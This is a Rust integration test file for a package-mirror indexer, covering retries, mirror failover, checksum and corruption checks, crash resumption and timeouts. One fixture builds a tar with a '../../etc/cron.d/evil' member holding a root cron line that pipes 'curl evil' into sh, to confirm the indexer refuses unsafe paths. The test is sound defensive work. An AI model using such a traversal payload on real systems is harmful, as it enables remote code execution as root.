//! Bad input and bad mirrors: each failure becomes an error record, the run goes on, and what
//! can be saved is saved.

use std::{
    io::{BufRead, BufReader, Write},
    process::{Command, Stdio},
};

use pipeline_tests::{Mirror, bin, fetch, index, lines};
use serde_json::Value;
use xtask::{sample::Spec, serve::Fault};

fn temp_db() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("index.sqlite").display().to_string();
    (dir, db)
}

/// A small one-repository mirror.
fn small_mirror(packages: usize) -> Mirror {
    Mirror::new(&Spec {
        repos: vec!["core".into()],
        packages,
        ..Spec::default()
    })
}

/// The package records of `mirrors` (several `--mirror` flags: failover order).
fn records(mirrors: &[&Mirror]) -> Vec<Value> {
    let urls: Vec<String> = mirrors.iter().map(|m| m.server_url()).collect();
    let mut args = vec!["repo", "core"];
    for url in &urls {
        args.extend(["--mirror", url]);
    }
    let run = fetch(&args);
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.of_type("package").into_iter().cloned().collect()
}

fn url_path(record: &Value) -> String {
    let url = record["url"].as_str().expect("url");
    url.splitn(4, '/')
        .nth(3)
        .map(|path| format!("/{path}"))
        .expect("a path")
}

fn to_lines(records: &[Value]) -> String {
    lines(&records.iter().collect::<Vec<_>>())
}

#[test]
fn transient_failures_are_retried() {
    let mirror = small_mirror(3);
    let records = records(&[&mirror]);
    let path = url_path(&records[0]);
    mirror
        .server
        .fail(&path, &[Fault::Status(500), Fault::Drop]);
    mirror
        .server
        .fail(&url_path(&records[1]), &[Fault::Truncate]);
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--retries", "3"], &to_lines(&records));
    assert_eq!((run.code, run.count("indexed")), (0, 3), "{}", run.stderr);
    let attempts = mirror
        .server
        .requests()
        .iter()
        .filter(|p| **p == path)
        .count();
    assert_eq!(attempts, 3, "500, dropped connection, then success");
}

#[test]
fn a_failing_mirror_hands_over_to_the_next() {
    let (first, second) = (small_mirror(3), small_mirror(3));
    let records = records(&[&first, &second]);
    first
        .server
        .fail(&url_path(&records[0]), &[Fault::Status(404)]);
    first
        .server
        .fail(&url_path(&records[1]), &[Fault::Truncate; 3]);
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--retries", "2"], &to_lines(&records));
    assert_eq!((run.code, run.count("indexed")), (0, 3), "{}", run.stderr);
    let served_by_second = second.server.requests();
    assert_eq!(served_by_second.len(), 2, "{served_by_second:?}");
}

#[test]
fn every_mirror_failing_is_an_error_record_and_the_rest_goes_on() {
    let mirror = small_mirror(3);
    let records = records(&[&mirror]);
    mirror
        .server
        .fail(&url_path(&records[0]), &[Fault::Status(503); 2]);
    mirror
        .server
        .fail(&url_path(&records[1]), &[Fault::Status(403)]);
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--retries", "2"], &to_lines(&records));
    assert_eq!(run.code, 1);
    assert_eq!(run.error_kinds(), ["http_status", "http_status"]);
    assert_eq!(run.count("indexed"), 1);
    let error = &run.of_type("error")[0];
    assert!(
        error["message"]
            .as_str()
            .is_some_and(|m| m.contains("HTTP status")),
        "{error}"
    );
    assert_eq!(error["subject"]["repo"], "core");
}

#[test]
fn wrong_checksums_and_corrupt_packages_are_refused() {
    let mirror = small_mirror(2);
    let mut records = records(&[&mirror]);
    records[0]["sha256"] = "0".repeat(64).into();
    let work = tempfile::tempdir().expect("tempdir");
    let file = mirror
        .repo_dir("core")
        .join(records[1]["filename"].as_str().expect("filename"));
    let mut bytes = std::fs::read(&file).expect("package");
    let middle = bytes.len() / 2;
    bytes[middle..].iter_mut().for_each(|b| *b ^= 0x55);
    let corrupt = work.path().join("corrupt.pkg.tar.zst");
    std::fs::write(&corrupt, &bytes).expect("write");
    let corrupt_record = serde_json::json!({"type": "package", "path": corrupt});
    let (_dir, db) = temp_db();
    let run = index(
        &["--db", &db],
        &to_lines(&[records[0].clone(), corrupt_record]),
    );
    assert_eq!(run.code, 1);
    assert_eq!(run.error_kinds(), ["corrupt_package", "sha256_mismatch"]);
}

/// A package whose tar climbs out with `../`, and one with a member larger than allowed.
#[test]
fn hostile_archives_are_refused() {
    let work = tempfile::tempdir().expect("tempdir");
    let mut tar = tar::Builder::new(Vec::new());
    let mut append = |name: &[u8], data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_cksum();
        tar.append(&header, data).expect("in memory");
    };
    append(b".PKGINFO", b"pkgname = evil\npkgver = 1-1\n");
    append(b"../../etc/cron.d/evil", b"* * * * * root curl evil | sh\n");
    let evil = work.path().join("evil-1-1-any.pkg.tar.zst");
    let bytes = zstd::encode_all(tar.into_inner().expect("tar").as_slice(), 3).expect("zstd");
    std::fs::write(&evil, bytes).expect("write");
    let mirror = small_mirror(1);
    let big = records(&[&mirror]).remove(0);
    let (_dir, db) = temp_db();
    let input = format!(
        "{}\n{big}\n",
        serde_json::json!({"type": "package", "path": evil})
    );
    let run = index(&["--db", &db, "--max-member-size", "100"], &input);
    assert_eq!(run.error_kinds(), ["member_too_large", "unsafe_path"]);
}

#[test]
fn bad_input_lines_are_reported_by_number_and_other_records_pass_through() {
    let mirror = small_mirror(1);
    let record = records(&[&mirror]).remove(0);
    let input = format!("{{\"type\":\"vm\",\"name\":\"x\"}}\nnot json\n{record}\n");
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db], &input);
    assert_eq!(run.code, 1);
    assert_eq!(
        run.records[0],
        serde_json::json!({"type": "vm", "name": "x"})
    );
    let error = run.of_type("error")[0];
    assert_eq!(
        (error["kind"].as_str(), error["subject"]["line"].as_u64()),
        (Some("bad_input"), Some(2))
    );
    assert_eq!(run.count("indexed"), 1);
}

#[test]
fn a_sync_database_that_is_not_a_tar_is_an_error_and_other_repos_go_on() {
    let mirror = Mirror::sample();
    let db_path = mirror.repo_dir("core").join("core.db");
    std::fs::remove_file(&db_path).expect("unlink");
    std::fs::write(
        &db_path,
        "<html><body>Welcome to nginx!</body></html>\n".repeat(20),
    )
    .expect("write");
    mirror
        .server
        .fail("/extra/os/x86_64/extra.db", &[Fault::Status(502)]);
    let run = fetch(&[
        "repo",
        "--mirror",
        &mirror.server_url(),
        "core",
        "extra",
        "missing",
    ]);
    assert_eq!(run.code, 1);
    assert_eq!(run.error_kinds(), ["bad_sync_db", "not_found"]);
    assert_eq!(
        run.of_type("package").len(),
        24,
        "extra is read after one 502"
    );
}

/// SIGKILL in the middle of a run, then run again: the database is consistent and the second
/// run indexes only what the first did not finish.
#[test]
fn a_killed_run_resumes_where_it_stopped() {
    let mirror = small_mirror(120);
    let all = records(&[&mirror]);
    // Only half the records arrive before the kill, the rest wait for it: however fast this
    // machine is, the kill comes before the end.
    let (first, rest) = all.split_at(all.len() / 2);
    let (first, rest) = (to_lines(first), to_lines(rest));
    let (killed, held) = std::sync::mpsc::channel::<()>();
    let (_dir, db) = temp_db();
    let mut child = Command::new(bin("mc-index"))
        .args(["--db", &db, "--jobs", "2"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("starts");
    let mut stdin = child.stdin.take().expect("stdin");
    let feeder = std::thread::spawn(move || {
        let _ = stdin.write_all(first.as_bytes());
        let _ = held.recv();
        let _ = stdin.write_all(rest.as_bytes());
    });
    let stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let seen = stdout.lines().take(30).count();
    child.kill().expect("SIGKILL");
    child.wait().expect("reaped");
    drop(killed);
    let _ = feeder.join();
    assert_eq!(seen, 30);
    let integrity = Command::new("sqlite3")
        .args([&db, "PRAGMA integrity_check; PRAGMA foreign_key_check;"])
        .output();
    if let Ok(output) = integrity {
        assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "ok");
    }
    let rerun = index(&["--db", &db], &to_lines(&records(&[&mirror])));
    assert_eq!(rerun.code, 0, "{}", rerun.stderr);
    let (done_before, done_now) = (rerun.count("unchanged"), rerun.count("indexed"));
    assert!(
        done_before >= 30,
        "the records printed were committed: {done_before}"
    );
    assert_eq!(done_before + done_now, 120);
    assert!(done_now > 0, "the kill came before the end");
    let per_package = index(&["query", "--db", &db, ".", "--packages"], "");
    assert!(
        per_package
            .of_type("package")
            .iter()
            .all(|p| p["file_count"].as_u64() >= Some(10))
    );
}

#[test]
fn paths_that_are_not_regular_files_are_errors_not_hangs() {
    let work = tempfile::tempdir().expect("tempdir");
    let fifo = work.path().join("fifo.pkg.tar.zst");
    let made = Command::new("mkfifo").arg(&fifo).status();
    assert!(made.is_ok_and(|status| status.success()), "mkfifo");
    let records: Vec<Value> = [
        fifo.display().to_string(),
        "/dev/zero".into(),
        "/dev/urandom".into(),
    ]
    .into_iter()
    .map(|path| serde_json::json!({"type": "package", "path": path}))
    .collect();
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--timeout", "2"], &to_lines(&records));
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        run.error_kinds(),
        ["download_failed"; 3],
        "{:?}",
        run.records
    );
    for error in run.of_type("error") {
        let message = error["message"].as_str().unwrap_or_default();
        assert!(message.contains("not a regular file"), "{message}");
    }
}

#[test]
fn an_endless_body_is_cut_at_its_csize_and_the_next_mirror_serves_it() {
    let (first, second) = (small_mirror(2), small_mirror(2));
    let both = records(&[&first, &second]);
    first.server.fail(&url_path(&both[0]), &[Fault::Endless]);
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--timeout", "5"], &to_lines(&both));
    assert_eq!((run.code, run.count("indexed")), (0, 2), "{}", run.stderr);
    assert_eq!(second.server.requests(), [url_path(&both[0])]);
    // With no other mirror, it is a size mismatch, and the run goes on.
    let only_first = records(&[&first]);
    first
        .server
        .fail(&url_path(&only_first[0]), &[Fault::Endless]);
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db, "--timeout", "5"], &to_lines(&only_first));
    assert_eq!((run.code, run.count("indexed")), (1, 1), "{}", run.stderr);
    assert_eq!(run.error_kinds(), ["size_mismatch"]);
}

#[test]
fn a_body_that_stalls_times_out_and_fails_over() {
    let (first, second) = (small_mirror(2), small_mirror(2));
    let both = records(&[&first, &second]);
    let stall = Fault::StallBody(std::time::Duration::from_secs(30));
    first.server.fail(&url_path(&both[0]), &[stall; 2]);
    let (_dir, db) = temp_db();
    let args = ["--db", &db, "--timeout", "1", "--retries", "2"];
    let run = index(&args, &to_lines(&both));
    assert_eq!((run.code, run.count("indexed")), (0, 2), "{}", run.stderr);
    assert_eq!(second.server.requests(), [url_path(&both[0])]);
    let only_first = records(&[&first]);
    first.server.fail(&url_path(&only_first[0]), &[stall; 2]);
    let (_fresh, db) = temp_db();
    let args = ["--db", &db, "--timeout", "1", "--retries", "2"];
    let run = index(&args, &to_lines(&only_first));
    assert_eq!(run.error_kinds(), ["timeout"], "{:?}", run.records);
}

#[test]
fn a_file_that_is_no_package_is_quoted_only_in_a_short_excerpt() {
    let record = serde_json::json!({"type": "package", "path": "/etc/passwd"});
    let (_dir, db) = temp_db();
    let run = index(&["--db", &db], &to_lines(&[record]));
    assert_eq!(run.code, 1, "{}", run.stderr);
    let error = &run.of_type("error")[0];
    let message = error["message"].as_str().unwrap_or_default();
    assert!(
        message.len() < 160 && !message.contains('\n') && !message.contains("daemon:"),
        "{message}"
    );
}
